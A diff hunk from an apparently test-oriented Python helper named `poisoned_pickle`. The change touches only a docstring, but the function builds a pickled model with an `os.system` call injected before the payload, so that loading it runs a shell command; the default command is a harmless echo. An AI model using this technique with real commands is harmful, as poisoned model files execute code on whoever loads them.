@@ -9,7 +9,7 @@ COMMAND = "echo this would have run"
 
 
 def poisoned_pickle(model: object, command: str = COMMAND) -> bytes:
-    """The pickle of `model` with a call of os.system put before its first opcode; the call's result is dropped again."""
+    """The pickle of `model` with a call of os.system put before it; the call's result is dropped again."""
     body = pickle.dumps(model, protocol=4)
     header, rest = body[:2], body[2:]
     text = command.encode()
